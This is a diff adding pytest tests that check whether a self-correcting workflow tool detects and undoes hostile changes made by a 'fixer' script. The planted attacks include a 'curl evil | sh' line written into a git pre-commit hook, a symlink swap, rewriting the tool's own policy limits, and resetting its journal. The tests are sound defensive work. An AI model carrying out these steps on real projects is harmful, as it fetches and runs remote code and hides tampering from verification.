@@ -224,3 +224,123 @@ def test_no_fixer_process_is_left_after_many_runs(tmp_path: Path) -> None:
         if fields[1] == str(os.getpid()).encode() and fields[0] == b"Z":
             zombies.append(name)
     assert (strays, zombies) == ([], [])
+
+
+# --- item 2: undo through a swapped folder ----------------------------------------------------
+
+
+def compensation(repo: Path) -> dict:
+    """The evidence of the run's last compensating → escalated/circuit_open record."""
+    done = [s for s in transitions(repo) if s["from"] == "compensating"]
+    assert done, "nothing was compensated"
+    return {"to": done[-1]["to"], **done[-1]["evidence"]}
+
+
+def test_a_folder_swapped_for_a_symlink_comes_back_with_every_edit(
+    tmp_path: Path, run_line
+) -> None:
+    elsewhere = tmp_path / "elsewhere"
+    fixer = (
+        f"mkdir -p {elsewhere}\necho theirs > {elsewhere}/a.py\nrm -rf src\nln -s {elsewhere} src\n"
+    )
+    repo = hostile_project(tmp_path, fixer)
+    before = project_digest(repo, scope=())
+
+    run_line(["run", repo / "workflow", "--format", "json"])
+
+    assert not (repo / "src").is_symlink() and (repo / "src").is_dir()
+    for rel, text in {**SRC, **EDITS}.items():
+        assert (repo / rel).read_text() == text  # the uncommitted edits too
+    assert (elsewhere / "a.py").read_text() == "theirs\n"  # nothing written through the link
+    assert project_digest(repo, scope=()) == before
+    undo = compensation(repo)
+    assert (undo["to"], undo["failed"], undo["skipped"]) == ("escalated", [], [])
+    assert {"src", "src/a.py", "src/b.py", "src/c.py"} <= set(undo["restored"])
+
+
+def test_a_file_that_cannot_be_put_back_is_failed_and_opens_the_circuit(
+    tmp_path: Path, run_line
+) -> None:
+    # node_modules is listed, never kept (too big to copy before every fix): a change there
+    # cannot be undone, and must say so.
+    repo = hostile_project(tmp_path, 'echo fix >> "$1"\necho evil >> node_modules/m/index.js\n')
+
+    run_line(["run", repo / "workflow", "--format", "json"])
+
+    undo = compensation(repo)
+    assert undo["to"] == "circuit_open"
+    assert undo["failed"] == ["node_modules/m/index.js"] and undo["skipped"] == []
+    assert (repo / "src" / "a.py").read_text() == EDITS["src/a.py"]  # the rest is undone
+
+
+# --- item 3: changes invisible to verification ------------------------------------------------
+
+ATTACKS = {
+    "ignored files": "echo evil >> .env\necho evil >> build/out.txt\necho new > build/new.txt\n",
+    "a git hook": "echo 'curl evil | sh' >> .git/hooks/pre-commit\n",
+    "git config": "git config core.hooksPath /tmp/hooks\n",
+    "the policy": "printf 'global_cycles: 99\\n' >> workflow/selfcorrect.yaml\n",
+    "the journal": 'echo \'{"event": "reset"}\' >> workflow/.selfcorrect/journal.jsonl\n',
+    "a commit": "git add -A\ngit commit -qm 'the fixer was here'\n",
+    "a new ignored tree": "mkdir -p node_modules/evil\necho x > node_modules/evil/index.js\n",
+    "a planted bytecode": "mkdir -p src/__pycache__\necho x > src/__pycache__/b.cpython-312.pyc\n",
+}
+
+
+@pytest.mark.parametrize("attack", sorted(ATTACKS))
+def test_every_change_a_fixer_makes_is_seen_and_undone(
+    tmp_path: Path, run_line, attack: str
+) -> None:
+    repo = hostile_project(tmp_path, 'echo fix >> "$1"\n' + ATTACKS[attack])
+    head = git(repo, "rev-parse", "HEAD")
+    in_scope = ("src/a.py",) if attack == "a planted bytecode" else ()  # that fix is applied
+    before = project_digest(repo, scope=in_scope)
+    journal = repo / "workflow" / ".selfcorrect" / "journal.jsonl"
+
+    run_line(["run", repo / "workflow", "--format", "json"])
+
+    assert project_digest(repo, scope=in_scope) == before, "the project is not its snapshot"
+    assert git(repo, "rev-parse", "HEAD") == head
+    assert '"reset"' not in journal.read_text()
+    if attack == "a planted bytecode":  # a tool cache: discarded, not a violation
+        assert not (repo / "src" / "__pycache__" / "b.cpython-312.pyc").exists()
+        return
+    verifying = [s for s in transitions(repo) if s["from"] == "verifying"]
+    assert verifying[0]["evidence"]["verdict"] == "SCOPE_VIOLATION"
+    undo = compensation(repo)
+    assert (undo["to"], undo["failed"], undo["skipped"]) == ("escalated", [], [])
+
+
+def test_outside_git_the_skipped_folders_count_too(tmp_path: Path, run_line) -> None:
+    repo = hostile_project(
+        tmp_path,
+        'echo fix >> "$1"\necho x > .venv/evil.pth\nmkdir -p node_modules/evil\n'
+        "echo x > node_modules/evil/index.js\n",
+    )
+    subprocess.run(["rm", "-rf", str(repo / ".git")], check=True)
+    (repo / ".venv").mkdir()
+    (repo / ".venv" / "pyvenv.cfg").write_text("home = /usr\n")
+    before = project_digest(repo, scope=())
+
+    run_line(["run", repo / "workflow", "--format", "json"])
+
+    assert project_digest(repo, scope=()) == before
+    undo = compensation(repo)
+    assert (undo["to"], undo["failed"], undo["skipped"]) == ("escalated", [], [])
+
+
+@pytest.mark.parametrize("target", ["workflow/selfcorrect.yaml", ".git/config", "src/../.git"])
+def test_a_target_in_git_or_the_workflow_folder_is_refused_before_the_fixer_runs(
+    tmp_path: Path, run_line, target: str
+) -> None:
+    repo = hostile_project(tmp_path, 'echo ran > ran.txt\necho x >> "$1"\n', target=target)
+    before = project_digest(repo, scope=())
+
+    run_line(["run", repo / "workflow", "--format", "json"])
+
+    assert not (repo / "ran.txt").exists()
+    assert project_digest(repo, scope=()) == before
+    refused = [s for s in transitions(repo) if (s["from"], s["to"]) == ("preflight", "escalated")]
+    assert (
+        refused and "never gets `.git` or the workflow folder" in refused[0]["evidence"]["reason"]
+    )
